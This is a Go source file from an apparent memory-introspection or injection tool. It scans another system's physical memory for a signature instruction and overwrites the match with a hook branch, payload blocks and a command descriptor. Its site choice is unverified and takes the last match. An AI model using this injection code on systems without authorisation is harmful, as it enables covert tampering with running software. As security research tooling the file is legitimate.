package hook

import (
	"encoding/binary"
	"errors"
	"fmt"
	"log"

	"gitlab.com/stephen-fox/investee/asmkit"
	"gitlab.com/stephen-fox/investee/memory"
	"gitlab.com/stephen-fox/investee/profile"
)

// ErrUnalignedCode is returned by Install when the code range does
// not start on a page boundary.
var ErrUnalignedCode = errors.New("code base is not page aligned")

// Memory is the physical memory access an Injector needs.
// *memory.Accessor implements it.
type Memory interface {
	Read32(pa memory.PhysAddr) uint32
	Write32(pa memory.PhysAddr, value uint32)
	ReadPage(pa memory.PhysAddr, out *[memory.PageSize]byte)
	LastFailed() bool
}

// Injector finds the hook signature in the untrusted system's code
// and installs the vector hook payload over it.
type Injector struct {
	Mem     Memory
	Profile profile.Profile
	Verbose *log.Logger
}

// Result describes an Install call.
type Result struct {
	// Found is false if the signature was not seen. Nothing is
	// written in that case.
	Found bool

	// Site is the patched address. Only valid when Found is true.
	Site memory.PhysAddr

	// Candidates lists every address holding the signature, in
	// ascending order.
	Candidates []memory.PhysAddr

	// Policy explains how Site was picked from Candidates.
	Policy SitePolicy

	// UnreadablePages counts pages of the code range that could
	// not be mapped. They were skipped.
	UnreadablePages int

	Payload Payload
}

// SitePolicy records the unverified choice of a hook site.
type SitePolicy struct {
	Rule      string
	Rationale string
	Discarded []memory.PhysAddr
}

const (
	lastMatchRule      = "last-match"
	lastMatchRationale = "every match overwrites the previous one, so the highest address wins; " +
		"no check is made that it is the vector table entry"
)

// InstallDefault calls Install with the profile's code range
// and signature.
func (o *Injector) InstallDefault() (Result, error) {
	code := o.Profile.Code()

	return o.Install(code.Start, code.Size, asmkit.Word(o.Profile.HookSignature))
}

// Install sweeps every word of the pages overlapping
// [codeBase, codeBase+codeSize) for the signature instruction. If it
// is found, the entry branch is written at the last match, the two
// payload blocks are written at their slots, and the command
// descriptor is written to the shared buffer.
//
// The payload is only built once a site is found, so a signature
// that BuildPayload rejects is reported as ErrBadSignature only if
// it occurs in the code.
func (o *Injector) Install(codeBase memory.PhysAddr, codeSize uint64, signature asmkit.Word) (Result, error) {
	if !codeBase.IsPageAligned() {
		return Result{}, fmt.Errorf("%w - %s", ErrUnalignedCode, codeBase)
	}

	var result Result

	o.logf("searching for 0x%08x in %s", uint32(signature),
		memory.Region{Start: codeBase, Size: codeSize})

	var page [memory.PageSize]byte
	progressInterval := uint64(o.Profile.ProgressInterval)

	for off := uint64(0); off < codeSize; off += memory.PageSize {
		pagePA := codeBase.Add(off)

		if progressInterval > 0 && uint64(pagePA)%progressInterval == 0 {
			o.logf("scanning %s (%d/%d KiB)", pagePA, off>>10, codeSize>>10)
		}

		o.Mem.ReadPage(pagePA, &page)
		if o.Mem.LastFailed() {
			result.UnreadablePages++
			continue
		}

		// The last page is compared in full, even when codeSize
		// ends inside it.
		for i := uint64(0); i < memory.PageSize; i += asmkit.InstLen {
			if asmkit.Word(binary.LittleEndian.Uint32(page[i:])) == signature {
				result.Candidates = append(result.Candidates, pagePA.Add(i))
			}
		}
	}

	if len(result.Candidates) == 0 {
		o.logf("signature 0x%08x not found", uint32(signature))
		return result, nil
	}

	last := len(result.Candidates) - 1

	result.Found = true
	result.Site = result.Candidates[last]
	result.Policy = SitePolicy{
		Rule:      lastMatchRule,
		Rationale: lastMatchRationale,
		Discarded: result.Candidates[:last],
	}

	o.logf("found %d candidate(s), hooking %s (%s)",
		len(result.Candidates), result.Site, lastMatchRule)

	payload, err := BuildPayload(o.Profile, signature)
	if err != nil {
		return result, fmt.Errorf("failed to build hook payload - %w", err)
	}

	result.Payload = payload

	err = o.write(result.Site, payload)
	if err != nil {
		return result, err
	}

	return result, nil
}

func (o *Injector) write(site memory.PhysAddr, payload Payload) error {
	o.Mem.Write32(site, uint32(payload.Entry))
	if o.Mem.LastFailed() {
		return fmt.Errorf("failed to write entry branch at %s", site)
	}

	blocks := []struct {
		name  string
		slot  uint32
		block Block
	}{
		{name: "first", slot: payload.Layout.TrampolineSlot, block: payload.First},
		{name: "second", slot: payload.Layout.SecondBlockSlot, block: payload.Second},
	}

	for _, b := range blocks {
		start := site.Add(uint64(b.slot) * asmkit.InstLen)

		for i, w := range b.block {
			pa := start.Add(uint64(i) * asmkit.InstLen)

			o.Mem.Write32(pa, uint32(w))
			if o.Mem.LastFailed() {
				return fmt.Errorf("failed to write %s block word %d at %s", b.name, i, pa)
			}
		}

		if o.Verbose != nil {
			end := start.Add(uint64(len(b.block)-1) * asmkit.InstLen)
			o.Verbose.Printf("%s block at %s: first word 0x%08x, last word 0x%08x",
				b.name, start, o.Mem.Read32(start), o.Mem.Read32(end))
		}
	}

	buf := o.Profile.SharedBuffer

	for off := 0; off+4 <= len(payload.Message); off += 4 {
		pa := buf.Add(uint64(off))

		o.Mem.Write32(pa, binary.LittleEndian.Uint32(payload.Message[off:]))
		if o.Mem.LastFailed() {
			return fmt.Errorf("failed to write command descriptor word at %s", pa)
		}
	}

	o.logf("wrote command descriptor %+v to %s", o.Profile.Message, buf)

	return nil
}

func (o *Injector) logf(format string, v ...interface{}) {
	if o.Verbose != nil {
		o.Verbose.Printf(format, v...)
	}
}
